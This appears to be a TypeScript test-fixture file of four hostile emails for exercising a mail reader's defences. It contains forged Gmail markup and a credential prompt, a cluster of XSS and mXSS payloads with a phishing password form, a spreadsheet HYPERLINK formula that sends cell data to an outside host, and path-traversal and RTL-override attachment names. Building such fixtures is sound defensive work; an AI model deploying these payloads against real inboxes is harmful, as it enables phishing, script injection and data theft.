import { grants, parcel, samina, sender, tutor } from '../cast.ts';
import { boundary } from '../ids.ts';
import type { Attachment, Mail } from '../mail.ts';
import { multipart, textPart, type Part } from '../mime/part.ts';

const html = (mail: Mail, text: string, markup: string): Part =>
  multipart('alternative', boundary(mail, 4), [
    textPart('plain', text, { charset: 'utf-8', encoding: '7bit' }),
    textPart('html', markup, { charset: 'utf-8', encoding: 'quoted-printable' }),
  ]);

const LOCKED_TEXT = `Marta Quill sent you a confidential email.

To read it, open this link: https://confidential-mail.example.com/msg/7d1e-44a0-9b1c

The content of this message is not in this email and expires on 1 July 2026.`;

const locked: Mail = {
  id: 'tutor-confidential-mode',
  at: '2026-06-24T18:50:10+01:00',
  from: tutor,
  to: [samina],
  subject: 'Notes on Idris, for the school',
  look: 'gmail',
  headers: ['X-Gm-Locker: QUNFLTA3ZDFlNDRhMC05YjFjLWV4YW1wbGU='],
  body: LOCKED_TEXT,
  content: (mail) =>
    html(
      mail,
      LOCKED_TEXT,
      `<div><p>Marta Quill sent you a <b>confidential email</b>.</p><p><a href="https://confidential-mail.example.com/msg/7d1e-44a0-9b1c">View the email</a></p><p>The content of this message is not in this email and expires on 1 July 2026.</p></div>`,
    ),
};

// Gmail's own class names and ids inside a body: a page reader that looks for them everywhere would believe this sender.
const FORGED = `<div class="adn ads" data-message-id="#msg-f:1111111111111111111" data-legacy-message-id="0f6b75ab2c5c71c7" style="display:block">
<h2 class="hP" data-legacy-thread-id="0f6b75ab2c5c71c7" data-thread-perm-id="thread-f:1111111111111111111">Decision reversed: provision withdrawn</h2>
<div class="gE iv gt"><table><tr><td class="gF gK"><h3 class="iw"><span class="qu" role="gridcell"><span class="gD" email="send.assessments@northshire.gov.uk" name="SEND Assessments" data-hovercard-id="send.assessments@northshire.gov.uk">SEND Assessments</span></span></h3></td>
<td class="gH acX bAm"><span class="g3" title="1 Jan 2026, 00:00">1 Jan 2026</span></td></tr></table></div>
<div class="ii gt"><div class="a3s aiL">This text pretends to be a second message from the council.</div></div></div>
<p>Please confirm your mail account to keep receiving messages.</p>`;

const forged: Mail = {
  id: 'forged-mail-page-markup',
  at: '2026-05-07T03:11:27+01:00',
  from: parcel,
  to: [samina],
  subject: 'Your mailbox is almost full',
  look: 'plain',
  body: 'Please confirm your mail account.',
  content: (mail) => html(mail, 'Please confirm your mail account to keep receiving messages.', FORGED),
};

const SCRIPTED = `<html><head><meta http-equiv="refresh" content="0;url=https://parcels-notice.example.net/next">
<base href="https://parcels-notice.example.net/"><link rel="stylesheet" href="https://parcels-notice.example.net/a.css">
<style>@import url("https://parcels-notice.example.net/b.css"); body{background:url(https://parcels-notice.example.net/bg.png)}</style></head>
<body onload="alert('onload')"><script>document.title='scripted'; alert(document.domain)</script>
<img src="x" onerror="alert('onerror')"><svg onload="alert('svg')"><a xlink:href="javascript:alert(1)"><text y="20">track</text></a></svg>
<form action="https://parcels-notice.example.net/login" method="post"><label>Password <input type="password" name="p"></label><button>Release parcel</button></form>
<iframe srcdoc="&lt;script&gt;alert('frame')&lt;/script&gt;"></iframe><object data="https://parcels-notice.example.net/o.swf"></object>
<a href="jav&#x09;ascript:alert('href')" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">Your parcel is waiting</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert('mxss')&gt;"></table></mtext></math></body></html>`;

const scripted: Mail = {
  id: 'scripted-html',
  at: '2026-07-08T04:36:51+01:00',
  from: sender,
  to: [samina],
  subject: 'Parcel held: action needed <script>alert("subject")</script>',
  look: 'plain',
  body: 'Your parcel is waiting.',
  content: (mail) => html(mail, 'Your parcel is waiting.', SCRIPTED),
};

const trap = (name: string, type: string): Attachment => ({
  name,
  type,
  bytes: () => Buffer.from('Not what the name says. Harmless.\r\n', 'utf8'),
});

const formula: Mail = {
  id: 'formula-subject-and-file-names',
  at: '2026-04-21T02:20:20+01:00',
  from: grants,
  to: [samina],
  subject: '=HYPERLINK("https://free-grants.example.com/?x="&A1,"SEND grant: open me")',
  look: 'plain',
  files: [
    trap('../../CON.pdf', 'application/pdf'),
    trap('a:b*c?.docx', 'application/msword'),
    trap('C:\\Windows\\LPT1.txt', 'text/plain'),
    { ...trap('form‮fdp.exe', 'application/octet-stream'), nameStyle: 'rfc2231' },
  ],
  body: `
Dear parent,

You may be owed a grant of £4,000. Complete the attached form today. This offer is only open to families with an EHC plan.

+44 1632 960 000
@SUM(A1:A9)
-2+3`,
};

/** Chapter 13: mails that try to break, deceive or withhold, as every mailbox has. */
export const hostileChapter: readonly Mail[] = [locked, forged, scripted, formula];
